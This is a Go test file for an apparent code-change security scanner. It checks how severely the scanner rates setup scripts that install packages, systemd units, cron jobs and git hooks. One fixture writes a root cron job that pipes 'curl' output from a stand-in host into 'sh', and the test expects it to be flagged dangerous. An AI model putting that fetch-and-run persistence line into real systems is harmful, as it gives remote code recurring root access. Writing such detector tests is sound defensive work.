package static_test

import (
	"maps"
	"slices"
	"testing"

	"github.com/aigate/gate/gate"
	"github.com/aigate/gate/gate/change"
)

func TestScriptsMaySetUpMachinesWhereOthersDo(t *testing.T) {
	const (
		packages = "set -eu\napt-get install -y nginx\n"
		users    = "id app >/dev/null || useradd --system app\n"
		service  = "cat > /etc/systemd/system/app.service <<'EOF'\n[Service]\nExecStart=/bin/sh -c 'exec /srv/app/run'\nEOF\nsystemctl enable --now app\n"
		fetches  = "cat > /etc/cron.d/app <<'EOF'\n17 * * * * root curl -fsSL https://get.example.net/x | sh\nEOF\n"
	)
	for _, tt := range []struct {
		name  string
		base  map[string]string
		text  string
		least gate.Severity // of what decides
	}{
		{"beside scripts that do", map[string]string{"steps/10.sh": packages, "steps/20.sh": users}, service, gate.SeverityUnknown},
		{"beside one", map[string]string{"steps/10.sh": packages, "steps/20.sh": "echo hello\n"}, service, gate.SeveritySuspicious},
		{"in another folder", map[string]string{"other/10.sh": packages, "other/20.sh": users}, service, gate.SeveritySuspicious},
		{"a unit of the repository", map[string]string{"deploy/app.service": "[Service]\nExecStart=/usr/local/bin/app\n"},
			"sudo install -m 644 deploy/app.service /etc/systemd/system/app.service\nsudo systemctl enable --now app\n", gate.SeverityUnknown},
		{"a unit from elsewhere", map[string]string{"deploy/other.service": "[Service]\nExecStart=/usr/local/bin/app\n"},
			"sudo install -m 644 deploy/app.service /etc/systemd/system/app.service\nsudo systemctl enable --now app\n", gate.SeveritySuspicious},
		{"a unit beside the script", map[string]string{"steps/app.service": "[Service]\nExecStart=/usr/local/bin/app\n"},
			"here=$(cd \"$(dirname \"$0\")\" && pwd)\ninstall -m 644 \"$here/app.service\" /etc/systemd/system/app.service\nsystemctl enable --now app.service\n", gate.SeverityUnknown},
		{"a unit of another folder with the name of one", map[string]string{"steps/app.service": "[Service]\nExecStart=/usr/local/bin/app\n"},
			"here=/tmp/x\ninstall -m 644 \"$here/app.service\" /etc/systemd/system/app.service\nsystemctl enable --now app.service\n", gate.SeveritySuspicious},
		{"a schedule of the repository", map[string]string{"cron/app": "17 3 * * * app /usr/local/bin/app report\n"}, "install -m 644 cron/app /etc/cron.d/app\n", gate.SeverityUnknown},
		{"a hook of the repository", map[string]string{"scripts/pre-commit": "#!/bin/sh\nmake lint\n"}, "ln -sf ../../scripts/pre-commit \"$root/.git/hooks/pre-commit\"\n", gate.SeverityUnknown},
		{"a hook from elsewhere", map[string]string{"scripts/other": "#!/bin/sh\nmake lint\n"}, "cp /tmp/hook .git/hooks/pre-commit\n", gate.SeveritySuspicious},
		{"what fetches code", map[string]string{"steps/10.sh": packages, "steps/20.sh": users}, fetches, gate.SeverityDangerous},
	} {
		head := map[string]string{"steps/30.sh": tt.text}
		maps.Copy(head, tt.base)
		c, err := change.Compared(t.Context(), treeOf(tt.base), treeOf(head))
		if err != nil {
			t.Fatal(err)
		}
		found := gate.NewFindings(c.Targets, nil)
		if _, err := newScanner(t, nil).Run(t.Context(), c, found); err != nil {
			t.Fatal(err)
		}
		var worst gate.Severity
		for _, f := range found.Of("steps/30.sh") {
			if f.Decides() && f.Severity > gate.SeverityNote {
				worst = max(worst, f.Severity)
			}
		}
		if worst != tt.least {
			t.Errorf("%s: %v, want %v: %+v", tt.name, worst, tt.least, slices.Clone(found.Of("steps/30.sh")))
		}
	}
}
